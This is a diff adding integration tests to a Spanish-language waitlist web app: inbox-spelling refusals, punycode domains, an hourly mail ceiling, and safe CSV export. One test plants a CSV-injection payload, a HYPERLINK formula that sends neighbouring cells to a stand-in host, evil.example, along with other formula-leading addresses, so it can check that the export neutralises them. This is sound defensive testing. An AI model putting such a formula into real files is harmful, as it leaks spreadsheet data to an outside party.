@@ -4,14 +4,20 @@
  * the export; one-click unsubscribe; the delete link; and every refusal.
  */
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { freePort, startAppServer, type AppServer } from "../support/app-server";
+import { parseEnv } from "~/lib/server/parse-env.server";
+import { openStorage } from "~/lib/storage/open-storage.server";
+import { freePort, ROOT, startAppServer, type AppServer } from "../support/app-server";
 import { startSmtpServer, type SmtpServer } from "../support/smtp-server";
 import {
   DATABASE_KINDS,
   exportWaitlist,
+  exportWaitlistCsv,
   linksIn,
+  mailsMentioning,
   mailsTo,
+  postForm,
   postSignUp,
+  SPELLINGS_OF_ONE_INBOX,
   useDatabase,
   type SignUp,
 } from "../support/waitlist";
@@ -109,6 +115,66 @@ describe.each(DATABASE_KINDS)("the waitlist on the %s database", (kind) => {
     await mailsTo(smtp, "control-1@example.com");
     expect(smtp.mails().filter((mail) => mail.to === "bruno@example.com")).toHaveLength(1);
     expect(smtp.mails().filter((mail) => mail.to === "ana.perez@example.com")).toHaveLength(1);
+  });
+
+  it("refuses every other spelling of an inbox: one mail reaches it, to the address that was checked", async () => {
+    expect((await signUp({ email: "Victim@Example.com", client: "198.51.100.20" })).status).toBe(200);
+    for (const [index, email] of SPELLINGS_OF_ONE_INBOX.entries()) {
+      const answer = await signUp({ email, client: `198.51.100.${21 + index}` });
+      expect(answer.status, email).toBe(400);
+      expect(statusMessage(answer.html), email).toContain("no parece válido");
+    }
+    await signUp({ email: "control-spellings@example.com", client: "198.51.100.20" });
+    await mailsTo(smtp, "control-spellings@example.com");
+    expect(mailsMentioning(smtp, "victim").map((mail) => mail.to)).toEqual(["victim@example.com"]);
+    expect((await exportWaitlist(database.env)).filter((row) => row.email.includes("victim"))).toHaveLength(1);
+  });
+
+  it("stores and mails an internationalised domain in punycode, lower-cased", async () => {
+    expect((await signUp({ email: "Pepa@Ñandú.Example", client: "198.51.100.19" })).status).toBe(200);
+    await mailsTo(smtp, "pepa@xn--and-6ma2c.example");
+    expect((await exportWaitlist(database.env)).map((row) => row.email)).toContain("pepa@xn--and-6ma2c.example");
+  });
+
+  it("stops form mails at the site's hourly ceiling, says so in /healthz, and contact still reaches support", async () => {
+    const ceiling = await startAppServer({
+      ...(await database.another()),
+      SMTP_URL: smtp.url,
+      FORM_MAILS_PER_HOUR: "2",
+      CONTACT_EMAIL: "soporte-techo@opinionlabz.test",
+    });
+    try {
+      const health = async () =>
+        ((await (await fetch(`${ceiling.origin}/healthz`)).json()) as { outbox: { formMailCeiling: unknown } }).outbox
+          .formMailCeiling;
+      expect(await health()).toEqual({ perHour: 2, reached: false });
+      for (const email of ["techo-1@example.com", "techo-2@example.com"]) {
+        expect((await postSignUp(ceiling, { email, client: "198.51.100.40" })).status).toBe(200);
+      }
+      const refused = await postSignUp(ceiling, { email: "techo-3@example.com", client: "198.51.100.41" });
+      expect(refused.status).toBe(503);
+      expect(statusMessage(await refused.text())).toContain("Probá de nuevo en un rato");
+      expect(await health()).toEqual({ perHour: 2, reached: true });
+      expect(ceiling.output()).toContain('"event":"forms.mail_ceiling"');
+
+      const contact = await postForm(
+        ceiling,
+        "/contacto",
+        { nombre: "Tina", email: "techo-4@example.com", mensaje: "Hola" },
+        { client: "198.51.100.42" },
+      );
+      expect(contact.status).toBe(200);
+      const [toSupport] = await mailsTo(smtp, "soporte-techo@opinionlabz.test");
+      expect(toSupport!.headers.get("reply-to")).toBe("techo-4@example.com");
+      await mailsTo(smtp, "techo-2@example.com");
+      expect(
+        mailsMentioning(smtp, "techo-")
+          .map((mail) => mail.to)
+          .sort(),
+      ).toEqual(["techo-1@example.com", "techo-2@example.com"]);
+    } finally {
+      await ceiling.stop();
+    }
   });
 
   it("unsubscribes with the mail client's one-click POST (RFC 8058)", async () => {
@@ -237,6 +303,47 @@ describe.each(DATABASE_KINDS)("the waitlist on the %s database", (kind) => {
     await mailsTo(smtp, "vecina@example.com");
     expect(smtp.mails().filter((mail) => mail.to === "familia-31@example.com")).toEqual([]);
     expect((await exportWaitlist(database.env)).map((row) => row.email)).not.toContain("familia-31@example.com");
+  });
+
+  it("exports an address that looks like a formula as text: npm run waitlist:export neutralises =, +, -, @, tab and CR", async () => {
+    const hostile = [
+      '=HYPERLINK("https://evil.example/?"&A2&A3&"@x.y","Ver")',
+      "+1@example.com",
+      "-1@example.com",
+      "@formula@example.com",
+      "\tfirst@example.com",
+      "\rsecond@example.com",
+    ];
+    // Rows stored before the address parser refused such text: the export must still be safe to open.
+    const storage = await openStorage(parseEnv(database.env, ROOT).database);
+    try {
+      const now = Date.now();
+      await storage.db
+        .insertInto("waitlist")
+        .values(
+          hostile.map((email, index) => ({
+            email,
+            status: "pending" as const,
+            token: `formula-${index}`,
+            subscribed_at: now,
+            confirmed_at: null,
+            unsubscribed_at: null,
+            confirm_expires_at: now + 24 * 60 * 60 * 1000,
+            last_mail_at: now,
+          })),
+        )
+        .execute();
+    } finally {
+      await storage.db.destroy();
+    }
+    const csv = await exportWaitlistCsv(database.env);
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A2&A3&""@x.y"",""Ver"")",pending,`);
+    const exported = (await exportWaitlist(database.env)).map((row) => row.email);
+    for (const email of hostile) expect(exported).toContain(`'${email}`);
+    // No cell of the file starts a formula.
+    for (const line of csv.split("\n")) {
+      for (const cell of line.split(",")) expect(cell, line).not.toMatch(/^["]?[=+\-@\t\r]/);
+    }
   });
 
   it("keeps sign-ups across a restart: a link mailed before it still confirms after", async () => {
